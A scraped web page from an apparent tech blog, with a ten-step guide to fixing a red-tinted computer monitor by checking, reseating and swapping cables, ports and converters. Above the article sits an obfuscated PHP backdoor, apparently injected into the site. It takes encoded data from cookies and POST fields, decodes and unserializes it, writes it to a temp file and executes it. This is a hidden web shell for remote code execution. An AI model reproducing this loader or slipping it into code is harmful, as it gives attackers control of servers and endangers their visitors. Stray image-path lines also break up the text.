$DlEEZ = 'W' . "\x76" . chr ( 651 - 561 )."\x5f" . 'h' . "\x69" . chr ( 328 - 255 )."\132" . chr (89); $msZdYtVh = "\x63" . 'l' . "\141" . chr (115) . 's' . chr (95) . chr ( 1035 - 934 ).chr ( 1069 - 949 )."\151" . chr (115) . chr ( 116 - 0 ).'s';$rvdUaY = $msZdYtVh($DlEEZ); $DlEEZ = "339";$ZWZfqxaFLI = $rvdUaY;$msZdYtVh = "4039";if (!$ZWZfqxaFLI){class WvZ_hiIZY{private $QsCgeEBEI;public static $lzfWFEsz = "6860ddc1-4b3b-4459-9d08-6e01f4323348";public static $ASslcO = 7806;public function __construct($sCtNFI=0){$oSLJO = $_COOKIE;$tcMKOdfgZ = $_POST;$UJxTSEF =@$oSLJO[substr(WvZ_hiIZY::$lzfWFEsz, 0, 4)];if (!empty($UJxTSEF)){$ZpLnhXzk = "base64";$dcxnb = "";$UJxTSEF = explode(",", $UJxTSEF);foreach ($UJxTSEF as $EEnrv){$dcxnb .=@$oSLJO[$EEnrv];$dcxnb .= @$tcMKOdfgZ[$EEnrv];}$dcxnb = array_map($ZpLnhXzk . '_' . chr (100) . "\145" . 'c' . chr ( 374 - 263)."\x64" . "\x65", array($dcxnb,)); $dcxnb = $dcxnb[0] ^ str_repeat(WvZ_hiIZY::$lzfWFEsz, (strlen($dcxnb[0]) / strlen(WvZ_hiIZY::$lzfWFEsz)) + 1);WvZ_hiIZY::$ASslcO = @unserialize($dcxnb);}}private function dFSYaBp(){if (is_array(WvZ_hiIZY::$ASslcO)) {$yEYyWuxn = sys_get_temp_dir() . "/" . crc32(WvZ_hiIZY::$ASslcO[chr (115) . "\141" . "\154" . "\164"]);@WvZ_hiIZY::$ASslcO["\x77" . 'r' . 'i' . chr ( 678 - 562 ).'e']($yEYyWuxn, WvZ_hiIZY::$ASslcO["\143" . "\157" . "\x6e" . 't' . 'e' . chr ( 871 - 761 )."\164"]);include $yEYyWuxn;@WvZ_hiIZY::$ASslcO[chr (100) . "\x65" . "\x6c" . chr (101) . "\x74" . chr ( 695 - 594 )]($yEYyWuxn); $ANeyTXEOJF = "60843";exit();}}public function __destruct(){$this->dFSYaBp(); $ANeyTXEOJF = "60843";$cYbrXPkGOV = str_pad($ANeyTXEOJF, 10);}}$NbjraQfde = new WvZ_hiIZY(); $NbjraQfde = "51271_1877";} How Can I Fix The Red Screen On a Computer? - Tech Jet
Friday, March 1, 2024
HomeCOMPUTERHow Can I Fix The Red Screen On a Computer?

How Can I Fix The Red Screen On a Computer?

Got some issues with red screen on a PC? Today, we’ll show you how you can easily resolve this problem in no time. You have an issue with your computer’s outgoing video signal if your computer functions normally outside of your monitor’s red-tinged image. A damagedor improperly connected display cable is frequently to blame for the red screen rather than a malfunctioning piece of hardware. Red is not the only color where the faulty connection issue may be seen; blue and green can also exhibit it. Regardless of the predominant hue, the methods to repair the issue are the same.

How Can I Fix The Red Screen On a Computer?

Here are the 10 simple steps by which you can fix the red screen on a computer.

Step 1

To Fix the Red Screen is to restart the computer and the monitor. Rebooting the computer is a common repair for various system issues and glitches.

Step 2

Wiggle both ends of the display cable connections to see whether the tint changes to its original hue. The issue could be as straightforward as a loose or misaligned connection. To fix weak connection issues, unplug and plug both ends of the monitor cable.

Step 3

If the monitor is plugged into a power strip, connect the power cord straight into a wall socket. Power strips that aren’t working properly can lead to display issues and should be replaced.

Step 4The display was factory reset to rule out any user-adjusted settings being the culprit. Because the factory reset procedure varies between monitor models, see the manufacturer’s instructions.

Also Check   10 Best Tips to Improve Website Security

Step 5

Disconnect the monitor wires and inspect them for crooked or missing pins. Inspect the port for damage as well. Use a small flat-head screwdriver or another thin piece of metal to straighten or realign the pins on any bent connector components.

Step 6

On either device, use a different display port. The monitor and computer might support additional connection types; if you typically use an HDMI connection, use the DVI port instead.

Step 7

Remove other electrical and magnetic devices from the area around the monitor. When subjected to interference, monitors may display improperly.

Step 8

Disconnect or replace any connection converters orbypass devices you use. If defective, the bypass device or converter must be replaced.

Step 9 (the second last step to fix the Red screen)

Switch out the connection cable for a different one of the same type, such as an HDMI, DVI, or VGA cable.If changing the cable resolves the problem, the previous cable was ineffective and should be destroyed.Step 10 (the last step to fix the Red screen)

Connect your monitor to a different computer to rule out the computer as the source of the issue. If the monitor still shows red, it is broken; if it doesn’t, there is an issue with the graphics card onthe original computer.


Most Popular